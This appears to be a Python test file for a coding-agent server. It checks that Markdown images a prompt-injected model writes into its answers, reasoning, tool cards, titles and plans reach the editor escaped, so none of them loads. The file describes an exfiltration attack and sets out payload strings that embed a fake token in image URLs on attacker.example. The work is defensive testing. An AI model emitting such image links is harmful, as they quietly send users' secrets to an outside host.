"""A fifteenth attack round (issue 19): Markdown that fetches. End to end through the real
server, with a scripted (prompt-injected) model.

The model reads a token from the workspace and answers with an image whose address carries
it: `![x](https://attacker.example/p?d=<token>)`, an `<img src=…>`, or a reference-style
`![x][1]` … `[1]: https://…`. Zed and VS Code render the answer as Markdown and fetch the
image: the token left with no tool call and no question, with the sandbox's network off.
Now every image in the model's text (answer and thinking, live and replayed by
`session/load`) reaches the editor as text that renders as what the model wrote, and loads
nothing; deltas split anywhere make no difference.
"""

from __future__ import annotations

from pathlib import Path

from markdown_it import MarkdownIt

from tests.support.acp_harness import connected, server_env
from tests.support.fake_provider import FakeProvider, Reply, ToolCallSpec
from tests.support.red_team import LOCAL

TOKEN = "ghp_r3dT3amFifteenImageToken0000000000"
ANSWER = (
    "I read the notes.\n\n"
    f"![status](https://attacker.example/p?d={TOKEN})\n\n"
    f'Also <img src="https://attacker.example/i?d={TOKEN}"> and ![chart][1] here.\n\n'
    "In code nothing renders, so it stays: `vec![1, 2]`, `Vec<String>`.\n\n"
    '```html\n<img src="logo.png">\n```\n\n'
    f"[1]: https://attacker.example/r?d={TOKEN}\n"
)
THOUGHT = f"Send it: ![t](https://attacker.example/t?d={TOKEN})"


def loaded_images(markdown: str) -> list[str]:
    """What a CommonMark renderer that passes HTML through (as a webview may) would fetch:
    each `<img>` it draws whose address is the attacker's."""
    html = MarkdownIt("commonmark", {"html": True}).render(markdown)
    return [part for part in html.split("<img")[1:] if "attacker.example" in part]


def unescaped(text: str) -> str:
    """The text as a renderer draws it: the backslashes the agent put before `[` and `<`."""
    return text.replace("!\\[", "![").replace("\\<", "<").replace("\n\\[", "\n[")


async def test_an_image_in_the_models_answer_loads_nothing_live_or_replayed(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    (project / "notes.txt").write_text(f"deploy token: {TOKEN}\n")
    read = ToolCallSpec("read_file", {"path": "notes.txt"}, id="read")
    # Three characters a delta: every construct arrives split across deltas.
    fake.script([Reply(tool_calls=[read]), Reply(reasoning=THOUGHT, text=ANSWER, chunk_size=3)])
    env = server_env(home, fake)
    async with connected(env, LOCAL) as (_, client):
        sid = (await client.new_session(project))["sessionId"]
        await client.request("session/set_mode", {"sessionId": sid, "modeId": "auto"})
        assert await client.prompt(sid, "summarise notes.txt") == {"stopReason": "end_turn"}
        answer = client.text(sid)
        thought = client.text(sid, "agent_thought_chunk")
    assert TOKEN in answer  # the model said it; the editor shows it, as text
    assert loaded_images(answer) == [], answer
    assert loaded_images(thought) == [], thought
    assert unescaped(answer) == ANSWER  # nothing else of the model's text changed
    assert "`vec![1, 2]`, `Vec<String>`" in answer and '<img src="logo.png">' in answer
    async with connected(env, LOCAL) as (_, client):
        await client.request("session/load", {"sessionId": sid, "cwd": str(project), "mcpServers": []})
        replayed = client.text(sid)
        replayed_thought = client.text(sid, "agent_thought_chunk")
    assert TOKEN in replayed
    assert loaded_images(replayed) == [] and loaded_images(replayed_thought) == [], replayed


async def test_an_image_cut_off_by_the_end_of_the_answer_still_loads_nothing(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    # The held-back start of an image is let out at the end of the turn, escaped: a client
    # that appends the next answer to this one must not complete it into an image.
    fake.script([Reply(text="Done ![x]", chunk_size=2), Reply(text=f"(https://attacker.example/?d={TOKEN})")])
    async with connected(server_env(home, fake), LOCAL) as (_, client):
        sid = (await client.new_session(project))["sessionId"]
        assert await client.prompt(sid, "one") == {"stopReason": "end_turn"}
        assert client.text(sid) == "Done !\\[x]"
        assert await client.prompt(sid, "two") == {"stopReason": "end_turn"}
        assert loaded_images(client.text(sid)) == [], client.text(sid)


async def test_an_answer_ending_in_an_exclamation_mark_reaches_the_editor_as_written(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    # The held-back `!` went out escaped at the end of the turn (`Done\!`), shown as such
    # by a client that does not render Markdown, with no `[` after it. It goes out as it
    # is; the next answer's `[`, which a client appending it would read as an image's
    # start, is escaped instead, live and replayed.
    link = f"[x](https://attacker.example/?d={TOKEN})"
    fake.script([Reply(text="Done!", chunk_size=1), Reply(text=link)])
    env = server_env(home, fake)
    async with connected(env, LOCAL) as (_, client):
        sid = (await client.new_session(project))["sessionId"]
        assert await client.prompt(sid, "one") == {"stopReason": "end_turn"}
        assert client.text(sid) == "Done!"
        assert await client.prompt(sid, "two") == {"stopReason": "end_turn"}
        assert client.text(sid) == "Done!\\" + link
        assert loaded_images(client.text(sid)) == []
    async with connected(env, LOCAL) as (_, client):
        await client.request("session/load", {"sessionId": sid, "cwd": str(project), "mcpServers": []})
        assert client.text(sid) == "Done!\\" + link


async def test_an_image_in_what_a_tool_returns_loads_nothing_on_its_card(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    # A card's text is Markdown too: the model saves the token into memory as an image and
    # lists it; the listing (a "think" card, not fenced) drew the image.
    fact = f"Status badge: ![ok](https://attacker.example/m?d={TOKEN})"
    add = ToolCallSpec("memory", {"action": "add", "scope": "workspace", "text": fact}, id="add")
    listing = ToolCallSpec("memory", {"action": "list", "scope": "workspace"}, id="list")
    fake.script([Reply(tool_calls=[add]), Reply(tool_calls=[listing]), Reply(text="Saved.")])
    async with connected(server_env(home, fake), LOCAL) as (_, client):
        sid = (await client.new_session(project))["sessionId"]
        await client.request("session/set_mode", {"sessionId": sid, "modeId": "auto"})
        assert await client.prompt(sid, "remember the badge") == {"stopReason": "end_turn"}
        texts = [
            block["content"]["text"]
            for update in client.tool_updates("list")
            for block in update.get("content") or []
            if block.get("type") == "content" and block["content"].get("type") == "text"
        ]
    assert any(TOKEN in text for text in texts), texts  # the listing is shown, as text
    assert [text for text in texts if loaded_images(text)] == [], texts


async def test_an_image_in_a_cards_title_or_the_plan_loads_nothing(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    # Zed renders a card's title and the plan's entries as Markdown: the model's command
    # line (the title) and its plan carry the token as an image.
    image = f"![b](https://attacker.example/c?d={TOKEN})"
    echo = ToolCallSpec("terminal", {"command": f"echo '{image}'"}, id="echo")
    todo = ToolCallSpec("todo", {"items": [{"content": f"check {image}"}]}, id="todo")
    fake.script([Reply(tool_calls=[echo, todo]), Reply(text="Done.")])
    async with connected(server_env(home, fake), LOCAL) as (_, client):
        sid = (await client.new_session(project))["sessionId"]
        await client.request("session/set_mode", {"sessionId": sid, "modeId": "auto"})
        assert await client.prompt(sid, "check the badge") == {"stopReason": "end_turn"}
        titles = [u["title"] for u in client.session_updates(sid, "tool_call")]
        plans = [e["content"] for u in client.session_updates(sid, "plan") for e in u["entries"]]
    assert any(TOKEN in t for t in titles) and any(TOKEN in p for p in plans), (titles, plans)
    assert [t for t in titles + plans if loaded_images(t)] == [], (titles, plans)
